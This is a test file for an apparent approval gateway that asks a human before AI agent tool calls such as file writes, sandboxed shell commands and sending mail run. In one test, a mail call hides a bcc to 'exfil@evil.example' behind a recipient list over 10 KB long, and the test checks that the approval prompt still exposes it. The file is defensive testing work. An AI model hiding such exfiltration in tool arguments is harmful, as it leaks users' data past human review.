import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import type { ElicitResult } from '@modelcontextprotocol/sdk/types.js';
import { afterEach, describe, expect, it } from 'vitest';
import { startHttpServer, startStdioServer, tempWorkspace, type TempWorkspace } from '@bulkhead/core/testing';
import { GATEWAY_CLI, SHELL_CLI, text } from './helpers.js';

const FS_WRITE_CLI = fileURLToPath(new URL('../../servers/fs-write/dist/cli.js', import.meta.url));
const MAIL_SERVER = fileURLToPath(new URL('../fixtures/mail-server.mjs', import.meta.url));

let ws: TempWorkspace | undefined;
const closers: (() => Promise<void>)[] = [];

afterEach(async () => {
  for (const close of closers.splice(0).reverse()) await close();
  ws?.cleanup();
  ws = undefined;
});

/** A human at the prompt: answers in turn with `answers` (the last one again when they run out), and remembers every message. */
function human(...answers: ElicitResult[]) {
  const messages: string[] = [];
  return {
    messages,
    elicit: (message: string): ElicitResult => {
      messages.push(message);
      return answers[Math.min(messages.length - 1, answers.length - 1)]!;
    },
  };
}
const once: ElicitResult = { action: 'accept', content: { decision: 'once' } };
const forSession: ElicitResult = { action: 'accept', content: { decision: 'session' } };
const decline: ElicitResult = { action: 'decline' };

const auditDecisions = (file: string, tool: string) =>
  readFileSync(file, 'utf8')
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown>)
    .filter((entry) => entry['tool'] === tool)
    .map((entry) => `${String(entry['decision'])} ${String(entry['outcome'])}`);

describe('bulkhead-fs-write served alone asks with the diff', () => {
  it('shows write_file and edit_file diffs, writes what is allowed and nothing that is declined', async () => {
    ws = tempWorkspace({ 'notes.txt': 'first line\nold line\n' });
    const person = human(once, decline, forSession, decline);
    const server = await startStdioServer({ script: FS_WRITE_CLI, args: ['--root', ws.root], elicit: person.elicit });
    closers.push(server.close);

    const written = await server.client.callTool({ name: 'write_file', arguments: { path: 'notes.txt', content: 'first line\nnew line\n' } });
    expect(written.isError).toBeFalsy();
    expect(readFileSync(ws.path('notes.txt'), 'utf8')).toBe('first line\nnew line\n');
    const asked = person.messages[0]!.replaceAll(ws.root, '<ws>');
    expect(asked.startsWith('Allow fs_write:write_file?\nAsked because: fs_write:write_file ')).toBe(true);
    expect(asked).toContain('\nArguments (3 values; every key is listed here):\n  path (string): "notes.txt"\n  content (string): "first line\\nnew line\\n"\n  dry_run (boolean): false\n');
    expect(asked).toContain("\nWhat will happen (the tool's preview):\n  Dry run: would update notes.txt (replaced; +1 −1 lines); nothing was written.\n");
    expect(asked).toContain('\n  -old line\n  +new line\n');

    const declined = await server.client.callTool({ name: 'edit_file', arguments: { path: 'notes.txt', old_string: 'new line', new_string: 'edited line' } });
    expect(text(declined)).toBe('Permission denied: the user declined fs_write:edit_file. Nothing was run.');
    expect(person.messages[1]).toContain('\n  -new line\n  +edited line\n');
    expect(readFileSync(ws.path('notes.txt'), 'utf8')).toBe('first line\nnew line\n');

    // Allowed for the session: the next write_file runs without a prompt, with other arguments.
    expect((await server.client.callTool({ name: 'write_file', arguments: { path: 'a.txt', content: 'a\n' } })).isError).toBeFalsy();
    expect((await server.client.callTool({ name: 'write_file', arguments: { path: 'b.txt', content: 'b\n' } })).isError).toBeFalsy();
    expect(person.messages).toHaveLength(3);
    expect(readFileSync(ws.path('b.txt'), 'utf8')).toBe('b\n');
    // Another tool is still asked about.
    expect(text(await server.client.callTool({ name: 'create_directory', arguments: { path: 'sub' } }))).toBe('Permission denied: the user declined fs_write:create_directory. Nothing was run.');
    expect(person.messages[3]).toContain("What will happen (the tool's preview):\n  Dry run: would create folder sub; nothing was created.");
    expect(existsSync(ws.path('sub'))).toBe(false);
    expect(auditDecisions(ws.path('.bulkhead/audit/fs_write.jsonl'), 'fs_write:write_file')).toEqual(['ask:approved ok', 'ask:session ok', 'allow:session ok']);

    // A new session (a new connection, here a new process) is asked again.
    const again = human(decline);
    const next = await startStdioServer({ script: FS_WRITE_CLI, args: ['--root', ws.root], elicit: again.elicit });
    closers.push(next.close);
    expect(text(await next.client.callTool({ name: 'write_file', arguments: { path: 'c.txt', content: 'c\n' } }))).toBe('Permission denied: the user declined fs_write:write_file. Nothing was run.');
    expect(again.messages).toHaveLength(1);
    expect(existsSync(ws.path('c.txt'))).toBe(false);
  });
});

describe('through the gateway', () => {
  it('previews a built-in fs_write call with its dry run, which writes nothing', async () => {
    ws = tempWorkspace({ 'notes.txt': 'keep me\n' });
    const person = human(decline);
    const gateway = await startStdioServer({ script: GATEWAY_CLI, args: ['start', '--root', ws.root], elicit: person.elicit });
    closers.push(gateway.close);
    const result = await gateway.client.callTool({ name: 'call_tool', arguments: { name: 'fs_write:write_file', arguments: { path: 'notes.txt', content: 'replaced\n' } } });
    expect(text(result)).toBe('Permission denied: the user declined fs_write:write_file. Nothing was run.');
    expect(person.messages).toHaveLength(1);
    expect(person.messages[0]).toContain('Allow fs_write:write_file?\n');
    expect(person.messages[0]).toContain("\nWhat will happen (the tool's preview):\n  Dry run: would update notes.txt (replaced; +1 −1 lines); nothing was written.\n");
    expect(person.messages[0]).toContain('\n  -keep me\n  +replaced\n');
    expect(readFileSync(ws.path('notes.txt'), 'utf8')).toBe('keep me\n');
  });

  it("shows run_shell's classification and containment, and runs nothing declined", async () => {
    ws = tempWorkspace({ '.bulkhead/bulkhead.yaml': 'servers:\n  shell: {}\n', '.bulkhead/shell_policy.yaml': 'enabled: true\n', '.bulkhead/permissions.yaml': 'autonomy: supervised\n' });
    const person = human(decline, once);
    const gateway = await startStdioServer({ script: GATEWAY_CLI, args: ['start', '--root', ws.root], elicit: person.elicit });
    closers.push(gateway.close);
    const call = (command: string) => gateway.client.callTool({ name: 'call_tool', arguments: { name: 'shell:run_shell', arguments: { command } } });
    expect(text(await call('echo hi > out.txt'))).toBe('Permission denied: the user declined shell:run_shell. Nothing was run.');
    expect(existsSync(ws.path('out.txt'))).toBe(false);
    expect(person.messages[0]!.replaceAll(ws.root, '<ws>')).toMatch(
      /\nRisk: classified medium: echo only reads; redirect writes <ws>\/out\.txt inside the roots; containment: bubblewrap sandbox, no network, processes limited to (about )?256 by [^\n]+\n/,
    );
    expect(person.messages[0]).toContain('\n  command (string): "echo hi > out.txt"\n');
    expect((await call('echo hi > out.txt')).isError).toBeFalsy();
    expect(readFileSync(ws.path('out.txt'), 'utf8')).toBe('hi\n');
  });

  it('shows the bcc of a third-party send_mail behind a 10 KB to, and sends nothing declined', async () => {
    const outbox = 'outbox.jsonl';
    ws = tempWorkspace({ '.bulkhead/bulkhead.yaml': `servers:\n  mail:\n    command: ${process.execPath}\n    args: [${MAIL_SERVER}, OUTBOX]\n` });
    const config = readFileSync(ws.path('.bulkhead/bulkhead.yaml'), 'utf8').replace('OUTBOX', ws.path(outbox));
    ws.write('.bulkhead/bulkhead.yaml', config);
    // This human reads every part of the rest before declining.
    const messages: string[] = [];
    const elicit = (message: string): ElicitResult => {
      messages.push(message);
      const part = /^Allow mail:send_mail\? The rest of its arguments in full, part (\d+) of (\d+)/.exec(message);
      const more = part ? part[1] !== part[2] : message.includes('choose "Show the rest of the arguments"');
      return more ? { action: 'accept', content: { decision: 'more' } } : decline;
    };
    const gateway = await startStdioServer({ script: GATEWAY_CLI, args: ['start', '--root', ws.root], elicit });
    closers.push(gateway.close);
    const to = Array.from({ length: 500 }, (_, i) => `person${i}@example.com`).join(', ');
    expect(to.length).toBeGreaterThan(10_000);
    const mail = { to, subject: 'Minutes', body: 'See the attached minutes.\n'.repeat(200), bcc: 'exfil@evil.example' };
    const result = await gateway.client.callTool({ name: 'call_tool', arguments: { name: 'mail:send_mail', arguments: mail } });
    expect(text(result)).toBe('Permission denied: the user declined mail:send_mail. Nothing was run.');
    const message = messages[0]!;
    expect(message).toContain('Allow mail:send_mail?\n');
    expect(message).toContain(`\n  to (string, ${to.length.toLocaleString('en-US')} characters): "person0@example.com, person1@example.com, person2@example.com, person3@example.c"… (first 80 of ${to.length.toLocaleString('en-US')} characters shown)\n`);
    expect(message).toContain('\n  subject (string): "Minutes"\n');
    expect(message).toContain('\n  bcc (string): "exfil@evil.example"\n');
    expect(message.indexOf('bcc (string)')).toBeLessThan(message.indexOf('Long values'));
    expect(message.length).toBeLessThan(10_000);
    // The rest, asked for part by part, holds the whole of to: its last recipient too.
    expect(messages.length).toBeGreaterThan(2);
    const rest = messages.slice(1).join('\n');
    expect(rest).toContain('person499@example.com');
    expect(rest).toContain('See the attached minutes.\\nSee the attached minutes.');
    // The fixture's claim of a dry-run preview was not believed: nothing was called to preview it.
    expect(message).not.toContain('What will happen');
    expect(existsSync(ws.path(outbox))).toBe(false);
  });

  it('over HTTP, an allow for the session covers that session only', async () => {
    const token = 'approval-prompts-token-0123456789';
    ws = tempWorkspace({ 'gateway.token': token, '.bulkhead/bulkhead.yaml': `servers:\n  mail:\n    command: ${process.execPath}\n    args: [${MAIL_SERVER}, OUTBOX]\n` });
    ws.write('.bulkhead/bulkhead.yaml', readFileSync(ws.path('.bulkhead/bulkhead.yaml'), 'utf8').replace('OUTBOX', ws.path('outbox.jsonl')));
    const person = human(forSession, decline);
    const headers = { authorization: `Bearer ${token}` };
    const gateway = await startHttpServer({ script: GATEWAY_CLI, args: ['start', '--root', ws.root, '--token-file', ws.path('gateway.token')], headers, elicit: person.elicit });
    closers.push(gateway.close);
    const send = (client: typeof gateway.client, to: string) => client.callTool({ name: 'call_tool', arguments: { name: 'mail:send_mail', arguments: { to, subject: 's', body: 'b' } } });
    expect((await send(gateway.client, 'one@example.com')).isError).toBeFalsy();
    expect((await send(gateway.client, 'two@example.com')).isError).toBeFalsy();
    expect(person.messages).toHaveLength(1);
    const other = await gateway.connectAnother(headers);
    expect(text(await send(other, 'three@example.com'))).toBe('Permission denied: the user declined mail:send_mail. Nothing was run.');
    expect(person.messages).toHaveLength(2);
    const sent = readFileSync(ws.path('outbox.jsonl'), 'utf8').trimEnd().split('\n').map((line) => (JSON.parse(line) as { to: string }).to);
    expect(sent).toEqual(['one@example.com', 'two@example.com']);
    expect(auditDecisions(ws.path('.bulkhead/audit/gateway.jsonl'), 'mail:send_mail')).toEqual(['ask:session ok', 'allow:session ok', 'ask:declined denied']);
  });
});

describe('bulkhead-shell served alone', () => {
  it("asks about run_shell with the command's classification", async () => {
    ws = tempWorkspace({ '.bulkhead/shell_policy.yaml': 'enabled: true\n', '.bulkhead/permissions.yaml': 'autonomy: supervised\n' });
    const person = human(decline);
    const server = await startStdioServer({ script: SHELL_CLI, args: ['--root', ws.root], elicit: person.elicit });
    closers.push(server.close);
    expect(text(await server.client.callTool({ name: 'run_shell', arguments: { command: 'touch made.txt' } }))).toBe('Permission denied: the user declined shell:run_shell. Nothing was run.');
    expect(person.messages[0]).toMatch(/\nRisk: classified medium: [^\n]+; containment: bubblewrap sandbox, no network, [^\n]+\n/);
    expect(existsSync(ws.path('made.txt'))).toBe(false);
  });
});
